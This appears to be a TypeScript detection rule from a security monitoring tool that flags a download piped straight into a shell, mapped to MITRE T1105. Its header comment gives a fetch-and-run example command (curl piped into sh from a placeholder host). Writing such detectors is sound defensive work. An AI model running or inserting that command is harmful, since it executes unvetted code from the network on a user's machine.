// A download piped straight into a shell (`curl -s http://x/i.sh | sh`): code from the
// network runs without ever being a file. Judged by the pipeline's shape (a shell reading
// stdin beside a downloader, rules/pipes.ts), not by the programs: a workload that uses
// curl and sh every day does not hide this.
import { defineRule } from '../types.ts';
import { DOWNLOADERS, pipedWith } from '../pipes.ts';

export default defineRule({
  id: 'download-pipe-to-shell',
  title: 'Download piped into a shell',
  kinds: ['exec'],
  severity: 'high',
  mitre: { technique: 'T1105', name: 'Ingress Tool Transfer', tactic: 'command-and-control' },
  novelty: false,
  evaluate(ev, ctx) {
    const m = pipedWith(ev, ctx, (name) => DOWNLOADERS.has(name));
    if (!m) return undefined;
    const url = m.producer.args.find((a) => /^[a-z][a-z0-9+.-]*:\/\//i.test(a)) ?? m.producer.args.slice(1).find((a) => !a.startsWith('-'));
    const dl = m.producer.args[0] ?? '';
    return {
      summary: `${dl.slice(dl.lastIndexOf('/') + 1)}${url ? ` ${url}` : ''} piped into ${m.shell.args[0] ?? 'a shell'}`,
      description: 'A shell reading its script from a download runs code from the network that never touched the disk (T1059.004 Unix Shell).',
      dedupOn: `${m.shell.args[0] ?? ''}<${url ?? ''}`,
    };
  },
});
